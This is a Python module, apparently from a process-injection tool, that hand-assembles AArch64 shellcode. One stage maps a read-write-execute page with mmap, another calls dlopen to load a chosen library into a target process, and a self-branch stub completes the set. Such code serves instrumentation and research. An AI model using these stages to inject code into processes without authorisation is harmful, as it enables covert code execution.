"""Payloads for AArch64 targets, assembled to machine code."""

from __future__ import annotations

import logging
import struct

from goauld.errors import ShellcodeError

log = logging.getLogger(__name__)

_SP = 31
_XZR = 31
_MASK64 = (1 << 64) - 1
RTLD_NOW = 0x2

_IMM19 = 19
_IMM26 = 26
_ADR = 21

_LDR_LIT_X = 0x58000000
_LDR_LIT_W = 0x18000000
_LDXRB = 0x085F7C00
_STXRB = 0x08007C00
_CBNZ_W = 0x35000000
_CBZ_X = 0xB4000000
_SUB_SP_0X100 = 0xD10403FF
_ADD_SP_0X100 = 0x910403FF
_STP_X = 0xA9000000
_LDP_X = 0xA9400000
_MVN_X4_XZR = 0xAA3F03E4
_SVC_0 = 0xD4000001
_STR_W0_OFF = 0xB9000000
_STR_X0_OFF = 0xF9000000
_DSB_ISH = 0xD5033B9F
_ISB = 0xD5033FDF
_ORR_X0_X0_1 = 0xB2400000
_EOR_X0_X0_1 = 0xD2400000
_BR = 0xD61F0000
_BLR = 0xD63F0000
_B = 0x14000000
_BRK_1 = 0xD4200020
_ADR_X = 0x10000000

# x0..x29 in pairs, then x30 with xzr: the last pair is (30, 31).
_SAVED_PAIRS = tuple((2 * i, 2 * i + 1) for i in range(16))


def _movz(rd: int, value: int, wide: bool = True) -> int:
    width = 64 if wide else 32
    base = 0xD2800000 if wide else 0x52800000
    if 0 <= value < 1 << width:
        for hw in range(width // 16):
            shift = 16 * hw
            if value & ~(0xFFFF << shift) == 0:
                return base | hw << 21 | (value >> shift) << 5 | rd
    raise ShellcodeError(f"immediate 0x{value:x} cannot be encoded in a single mov")


def _pair(base: int, rt1: int, rt2: int, offset: int) -> int:
    return base | ((offset // 8) & 0x7F) << 15 | rt2 << 10 | _SP << 5 | rt1


def _encode_offset(kind: int, offset: int) -> int:
    if kind == _ADR:
        if not -(1 << 20) <= offset < 1 << 20:
            raise ShellcodeError(f"adr offset {offset} out of range")
        imm = offset & 0x1FFFFF
        return (imm & 0x3) << 29 | (imm >> 2) << 5
    if offset % 4:
        raise ShellcodeError(f"branch offset {offset} is not word aligned")
    scaled = offset >> 2
    if not -(1 << (kind - 1)) <= scaled < 1 << (kind - 1):
        raise ShellcodeError(f"branch offset {offset} out of range")
    field = scaled & ((1 << kind) - 1)
    return field << 5 if kind == _IMM19 else field


class _Assembler:
    def __init__(self) -> None:
        self._code = bytearray()
        self._labels: dict[str, int] = {}
        self._fixups: list[tuple[int, int, int, str]] = []

    def label(self, name: str) -> None:
        self._labels[name] = len(self._code)

    def ins(self, word: int) -> None:
        self._code += struct.pack("<I", word)

    def ref(self, word: int, kind: int, label: str) -> None:
        self._fixups.append((len(self._code), word, kind, label))
        self.ins(0)

    def data(self, chunk: bytes) -> None:
        self._code += chunk

    def qword(self, value: int) -> None:
        self._code += (value & _MASK64).to_bytes(8, "little")

    def align(self, alignment: int) -> None:
        self._code += bytes(-len(self._code) % alignment)

    def finalize(self) -> bytes:
        for pos, word, kind, label in self._fixups:
            offset = self._labels[label] - pos
            struct.pack_into("<I", self._code, pos, word | _encode_offset(kind, offset))
        return bytes(self._code)


def first_shellcode(var_addr: int, alloc_len: int) -> bytes:
    """Spin-locked stage that maps an RWX page, parks on it and publishes its address."""
    log.debug("first_shellcode aarch64")
    asm = _Assembler()
    asm.label("start")
    asm.ref(_LDR_LIT_X | 6, _IMM19, "var_addr")
    asm.ins(_LDXRB | 6 << 5 | 1)
    asm.ref(_CBNZ_W | 1, _IMM19, "start")
    asm.ins(_movz(2, 1, wide=False))
    asm.ins(_STXRB | 1 << 16 | 6 << 5 | 2)
    asm.ref(_CBNZ_W | 1, _IMM19, "start")

    asm.ins(_SUB_SP_0X100)
    for index, (first, second) in enumerate(_SAVED_PAIRS):
        asm.ins(_pair(_STP_X, first, second, index * 0x10))

    # mmap(NULL, alloc_len, RWX, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
    asm.ins(_movz(0, 0))
    asm.ins(_movz(1, alloc_len))
    asm.ins(_movz(2, 0x7))
    asm.ins(_movz(3, 0x22))
    asm.ins(_MVN_X4_XZR)
    asm.ins(_movz(5, 0))
    asm.ins(_movz(8, 0xDE))
    asm.ins(_SVC_0)

    asm.ref(_LDR_LIT_W | 1, _IMM19, "self_jmp")
    asm.ins(_STR_W0_OFF | 0 << 5 | 1)
    asm.ins(_DSB_ISH)
    asm.ins(_ISB)

    asm.ins(_ORR_X0_X0_1)
    asm.ins(_STR_X0_OFF | 6 << 5 | 0)
    asm.ins(_EOR_X0_X0_1)
    asm.ins(_BR | 0 << 5)

    asm.align(4)
    asm.label("minus_one")
    asm.qword(-1)
    asm.align(4)
    asm.label("var_addr")
    asm.qword(var_addr)
    asm.align(4)
    asm.label("alloc_len")
    asm.qword(alloc_len)
    asm.align(4)
    asm.label("self_jmp")
    asm.ref(_B, _IMM26, "self_jmp")
    return asm.finalize()


def raw_dlopen_shellcode(dlopen_addr: int, dlopen_path: str | bytes, jmp_addr: int) -> bytes:
    """Stage that calls ``dlopen(path, RTLD_NOW)``, restores registers and resumes."""
    log.debug("raw_dlopen_shellcode aarch64")
    path = dlopen_path.encode() if isinstance(dlopen_path, str) else bytes(dlopen_path)
    asm = _Assembler()
    asm.ref(_ADR_X | 0, _ADR, "dlopen_path")
    asm.ref(_LDR_LIT_X | 1, _IMM19, "dlopen_flags")
    asm.ref(_LDR_LIT_X | 8, _IMM19, "dlopen")
    asm.ins(_BLR | 8 << 5)
    asm.ref(_CBZ_X | 0, _IMM19, "crash")

    for index, (first, second) in enumerate(_SAVED_PAIRS):
        asm.ins(_pair(_LDP_X, first, second, index * 0x10))
    asm.ins(_ADD_SP_0X100)

    asm.ref(_LDR_LIT_X | 8, _IMM19, "oldfun")
    asm.ins(_BR | 8 << 5)

    asm.label("crash")
    asm.ins(_BRK_1)

    asm.align(4)
    asm.label("dlopen_path")
    asm.data(path + b"\0")
    asm.align(4)
    asm.label("dlopen_flags")
    asm.qword(RTLD_NOW)
    asm.align(4)
    asm.label("dlopen")
    asm.qword(dlopen_addr)
    asm.align(4)
    asm.label("oldfun")
    asm.qword(jmp_addr)
    return asm.finalize()


def self_jmp() -> bytes:
    """A single branch to itself."""
    log.debug("self_jmp aarch64")
    asm = _Assembler()
    asm.label("self_jmp")
    asm.ref(_B, _IMM26, "self_jmp")
    return asm.finalize()